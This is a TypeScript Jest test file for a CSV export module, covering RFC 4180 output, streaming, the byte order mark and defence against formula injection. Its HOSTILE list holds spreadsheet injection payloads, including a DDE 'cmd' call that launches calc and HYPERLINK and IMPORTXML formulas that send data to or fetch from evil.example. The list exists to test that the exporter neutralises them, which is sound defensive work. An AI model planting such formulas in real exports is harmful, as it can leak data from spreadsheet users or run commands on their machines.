import { Readable } from 'node:stream';
import { buffer, text } from 'node:stream/consumers';
import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { csvStream, toCsv } from './index.ts';

/** RFC 4180, read strictly: CRLF ends a record, quotes only around whole fields. */
function parse(csv: string): string[][] {
  const records: string[][] = [];
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  let record: string[] = [];
  while (field.lastIndex < csv.length) {
    const at = field.lastIndex;
    const match = field.exec(csv);
    if (match === null) throw new Error(`Not RFC 4180 at ${at}: ${JSON.stringify(csv.slice(at, at + 40))}`);
    record.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '');
    if (match[3] === '\r\n') {
      records.push(record);
      record = [];
    }
  }
  return records;
}

const TEXT = [{ key: 'text', header: 'Text' }];
const cell = (value: string) => parse(toCsv([{ text: value }], TEXT))[1]?.[0];

const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"Klik")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|x!A0',
  '+1+1',
  '-1+1',
  '-2+3+cmd|x!A0',
  '=',
  '+',
  '-',
  '@',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '   @SUM(A1)',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  '\u0000=1+1',
  '\u000b=1+1',
  '"=1+1"',
  '"\t=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=IMPORTXML("http://evil.example","//a")',
  '=1+1";=1+1',
  '-5',
  '+62 812 3456 789',
];

describe('formulas in text', () => {
  it.each(HOSTILE)('S0-SEC-05 S3-RPT-08 %j is shown, not run', (payload) => {
    const shown = cell(payload);
    expect(shown?.[0]).toBe("'");
    expect(shown?.replaceAll(/(^|;)'/g, '$1')).toBe(payload);
  });

  it.each([
    ['ok;=1+1', "ok;'=1+1"],
    ['ok; @SUM(A1)', "ok;' @SUM(A1)"],
    ['ok;"=1+1', 'ok;\'"=1+1'],
    ['a;b;-1+1;c', "a;b;'-1+1;c"],
  ])('S3-RPT-08 %j cannot begin a cell where the semicolon separates', (payload, shown) => {
    expect(cell(payload)).toBe(shown);
  });

  it.each(['nasi = enak', 'a-b', 'x@example.com', '1-2', "'=1", 'a; b', '', ' teks ', '50%', '日本語'])(
    '%j stays as it is',
    (plain) => {
      expect(cell(plain)).toBe(plain);
    },
  );

  it('treats headers alike', () => {
    expect(toCsv([], [{ key: 'a', header: '=1+1' }])).toBe("'=1+1\r\n");
  });
});

describe('S3-RPT-08 CSV', () => {
  const columns = [
    { key: 'name', header: 'Nama' },
    { key: 'amount', header: 'Jumlah, total' },
    { key: 'at', header: 'Waktu' },
    { key: 'done', header: 'Selesai' },
  ];

  it('writes RFC 4180, with numbers, instants, booleans and nothing as themselves', () => {
    expect(
      toCsv(
        [
          { name: 'Budi "B", dapur\nlantai 2', amount: -5, at: new Date('2026-11-21T01:02:03Z'), done: true },
          { name: null, amount: 1234567.89, done: false },
          { name: 'Ünï 日本', amount: -12345678901234567890n },
        ],
        columns,
      ),
    ).toBe(
      'Nama,"Jumlah, total",Waktu,Selesai\r\n' +
        '"Budi ""B"", dapur\nlantai 2",-5,2026-11-21T01:02:03.000Z,true\r\n' +
        ',1234567.89,,false\r\n' +
        'Ünï 日本,-12345678901234567890,,\r\n',
    );
  });

  it('reads keys as they are, dots included', () => {
    expect(toCsv([{ 'a.b': 1 }], [{ key: 'a.b', header: 'x' }])).toBe('x\r\n1\r\n');
  });

  it('keeps any text in one cell, and loses none of it', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 4 }), (cells) => {
        const keyed = Object.fromEntries(cells.map((value, index) => [`c${index}`, value]));
        const [, record] = parse(
          toCsv(
            [keyed],
            cells.map((_, index) => ({ key: `c${index}`, header: 'h' })),
          ),
        );
        expect(record?.map((value) => value.replaceAll("'", ''))).toEqual(
          cells.map((value) => value.replaceAll("'", '')),
        );
      }),
    );
  });

  it('streams: same text as toCsv, byte order mark on request', async () => {
    const rows = Array.from({ length: 5_000 }, (_, i) => ({
      name: `baris ${i}`,
      amount: i,
      at: null,
      done: i % 2 === 0,
    }));
    expect(await text(Readable.from(rows).pipe(csvStream({ columns })))).toBe(toCsv(rows, columns));

    const bytes = await buffer(Readable.from(rows).pipe(csvStream({ columns, bom: true })));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString('utf8')).toBe(toCsv(rows, columns));
  });

  it('streams the header, and the mark, when there are no rows', async () => {
    expect(await text(Readable.from([]).pipe(csvStream({ columns: TEXT })))).toBe('Text\r\n');
    const bytes = await buffer(Readable.from([]).pipe(csvStream({ columns: TEXT, bom: true })));
    expect(bytes.toString('latin1')).toBe('\xef\xbb\xbfText\r\n');
  });

  it('holds back the source when nobody reads', async () => {
    let produced = 0;
    const source = Readable.from(
      (function* () {
        for (; produced < 100_000; produced += 1) yield { text: 'x'.repeat(100) };
      })(),
    );
    const csv = source.pipe(csvStream({ columns: TEXT }));
    await new Promise((resolve) => csv.once('readable', resolve));
    await new Promise((resolve) => setImmediate(resolve));
    expect(produced).toBeLessThan(1_000);
    csv.destroy();
    source.destroy();
  });
});
